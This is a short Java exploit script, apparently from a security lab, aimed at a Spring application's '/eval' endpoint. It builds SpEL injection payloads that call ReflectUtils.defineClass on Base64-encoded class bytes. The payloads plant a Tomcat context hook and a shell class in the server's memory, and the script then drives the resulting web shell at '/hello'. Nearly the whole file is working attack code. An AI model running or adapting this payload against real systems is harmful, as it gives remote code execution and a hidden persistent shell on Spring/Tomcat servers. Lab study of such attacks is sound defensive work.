import java.util.Base64;
import org.springframework.cglib.core.Shell;
import whorl.lab.attack.Attacker;
import whorl.lab.attack.Shells;
import whorl.lab.attack.TomcatContext;

public class Attack {
  public static void main(String[] args) throws Exception {
    Attacker.post("/eval", define(TomcatContext.class) + "");
    Attacker.post("/eval", define(Shell.class) + ".newInstance()");
    Shells.use("/hello");
    Attacker.done();
  }

  private static String define(Class<?> type) throws Exception {
    String neighbour = type == Shell.class ? "org.springframework.cglib.core.ReflectUtils" : null;
    return "T(org.springframework.cglib.core.ReflectUtils).defineClass('"
        + type.getName()
        + "', T(java.util.Base64).getDecoder().decode('"
        + Base64.getEncoder().encodeToString(Attacker.classBytes(type))
        + "'), T(java.lang.Thread).currentThread().getContextClassLoader()"
        + (neighbour == null ? "" : ", null, T(" + neighbour + ")")
        + ")";
  }
}
